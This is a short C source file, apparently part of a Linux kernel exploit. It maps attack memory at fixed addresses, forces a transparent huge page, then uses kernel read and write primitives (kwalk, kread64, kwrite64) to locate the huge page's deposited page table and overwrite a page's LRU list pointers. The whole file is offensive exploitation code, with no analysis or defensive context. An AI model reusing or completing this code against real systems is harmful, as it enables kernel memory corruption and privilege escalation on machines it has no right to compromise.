// SPDX-License-Identifier: GPL-2.0-only
#include <stddef.h>
#include <sys/mman.h>

#include "deposit.h"
#include "corrupt.h"
#include "objects.h"

#define HUGE_PART	0x56

volatile char *attack_room(int part, uint64_t size)
{
	char *at = mmap((void *)user_room(part), size, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | MAP_FIXED_NOREPLACE, -1, 0);

	if (at == MAP_FAILED)
		return NULL;
	madvise(at, size, MADV_DONTFORK);
	return at;
}

bool make_huge(struct huge *huge)
{
	struct slot pmd;

	huge->at = attack_room(HUGE_PART, PMD_SIZE);
	if (!huge->at)
		return false;
	madvise((void *)huge->at, PMD_SIZE, MADV_HUGEPAGE);
	huge->at[0] = 1;
	if (kwalk((uint64_t)huge->at, LEAF, 0, &pmd) || pmd.level != LEVEL_PMD)
		return false;
	huge->field = page_of(pmd.slot) + TABLE_DEPOSIT;
	huge->deposit = kread64(huge->field);
	return huge->deposit;
}

int close_list(uint64_t page)
{
	int err = kwrite64(page + PAGE_LRU, page + PAGE_LRU);

	return err ?: kwrite64(page + PAGE_LRU + 8, page + PAGE_LRU);
}
